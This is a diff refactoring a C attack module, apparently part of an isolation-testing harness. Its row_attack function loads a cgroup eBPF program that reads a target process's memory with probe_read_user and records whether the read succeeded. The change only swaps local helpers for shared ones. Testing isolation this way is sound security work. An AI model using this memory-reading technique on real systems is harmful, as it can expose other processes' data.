@@ -15,18 +15,6 @@
 #define CGROUPS "/sys/fs/cgroup"
 #define LENGTH 32
 
-static bool is_named(const char *word)
-{
-    return strstr(program_invocation_short_name, word) != NULL;
-}
-
-static long make_map(void)
-{
-    union bpf_attr attr = {
-        .map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = LENGTH, .max_entries = 1};
-    return row_bpf(BPF_MAP_CREATE, &attr);
-}
-
 static unsigned long first_word(void)
 {
     unsigned long word;
@@ -41,33 +29,26 @@ static long load(const struct row_victim *victim, long map)
         INSN(BPF_ST | BPF_MEM | BPF_DW, BPF_REG_10, 0, -8, 0),
         INSN(BPF_ST | BPF_MEM | BPF_DW, BPF_REG_10, 0, -16, 0),
         INSN(BPF_ST | BPF_MEM | BPF_DW, BPF_REG_10, 0, -24, 0),
-        INSN(BPF_ST | BPF_MEM | BPF_DW, BPF_REG_10, 0, -32, is_named("plain") ? 1 : 0),
+        INSN(BPF_ST | BPF_MEM | BPF_DW, BPF_REG_10, 0, -32, row_is_named("plain") ? 1 : 0),
         COPY(BPF_REG_1, BPF_REG_10),
         ADD(BPF_REG_1, -LENGTH),
         SET(BPF_REG_2, LENGTH),
         INSN(BPF_LD | BPF_DW | BPF_IMM, BPF_REG_3, 0, 0, (unsigned)victim->address),
         INSN(0, 0, 0, 0, victim->address >> 32),
-        CALL(is_named("plain") ? BPF_FUNC_ktime_get_ns : BPF_FUNC_probe_read_user),
+        CALL(row_is_named("plain") ? BPF_FUNC_ktime_get_ns : BPF_FUNC_probe_read_user),
         LOAD(BPF_REG_1, BPF_REG_10, -LENGTH),
         INSN(BPF_LD | BPF_DW | BPF_IMM, BPF_REG_2, 0, 0,
-             is_named("plain") ? 1 : (unsigned)first_word()),
-        INSN(0, 0, 0, 0, is_named("plain") ? 0 : first_word() >> 32),
+             row_is_named("plain") ? 1 : (unsigned)first_word()),
+        INSN(0, 0, 0, 0, row_is_named("plain") ? 0 : first_word() >> 32),
         INSN(BPF_JMP | BPF_JNE | BPF_X, BPF_REG_1, BPF_REG_2, 9, 0),
-        INSN(BPF_ST | BPF_MEM | BPF_W, BPF_REG_10, 0, -36, 0),
-        COPY(BPF_REG_2, BPF_REG_10),
-        ADD(BPF_REG_2, -36),
-        INSN(BPF_LD | BPF_DW | BPF_IMM, BPF_REG_1, BPF_PSEUDO_MAP_FD, 0, map),
-        INSN(0, 0, 0, 0, 0),
-        COPY(BPF_REG_3, BPF_REG_10),
-        ADD(BPF_REG_3, -LENGTH),
-        SET(BPF_REG_4, BPF_ANY),
-        CALL(BPF_FUNC_map_update_elem),
+        SAVE(map, -LENGTH),
         SET(BPF_REG_0, 1),
         END,
     };
     union bpf_attr attr = {
-        .prog_type = is_named("sock") ? BPF_PROG_TYPE_CGROUP_SOCK : BPF_PROG_TYPE_CGROUP_DEVICE,
-        .expected_attach_type = is_named("sock") ? BPF_CGROUP_INET_SOCK_CREATE : BPF_CGROUP_DEVICE,
+        .prog_type = row_is_named("sock") ? BPF_PROG_TYPE_CGROUP_SOCK : BPF_PROG_TYPE_CGROUP_DEVICE,
+        .expected_attach_type =
+            row_is_named("sock") ? BPF_CGROUP_INET_SOCK_CREATE : BPF_CGROUP_DEVICE,
         .insns = (unsigned long)program,
         .insn_cnt = sizeof(program) / sizeof(program[0]),
         .license = (unsigned long)"GPL"};
@@ -76,7 +57,7 @@ static long load(const struct row_victim *victim, long map)
 
 static bool has_run(const char *said)
 {
-    return is_named("plain") ? said[0] == 1 : row_is_text(said, LENGTH);
+    return row_is_named("plain") ? said[0] == 1 : row_is_text(said, LENGTH);
 }
 
 enum row_result row_attack(const struct row_victim *victim)
@@ -87,7 +68,7 @@ enum row_result row_attack(const struct row_victim *victim)
     const struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY};
     (void)setrlimit(RLIMIT_MEMLOCK, &all);
     int root = open(CGROUPS, O_RDONLY | O_CLOEXEC);
-    long map = make_map();
+    long map = row_bpf_map(LENGTH);
     long program = map >= 0 ? load(victim, map) : -1;
     if (program < 0) {
         return row_from_errno("bpf");
@@ -95,7 +76,7 @@ enum row_result row_attack(const struct row_victim *victim)
     // A link goes with this process.
     union bpf_attr attach = {.link_create = {.prog_fd = (unsigned)program,
                                              .target_fd = (unsigned)root,
-                                             .attach_type = is_named("sock")
+                                             .attach_type = row_is_named("sock")
                                                                 ? BPF_CGROUP_INET_SOCK_CREATE
                                                                 : BPF_CGROUP_DEVICE}};
     union bpf_attr lookup = {
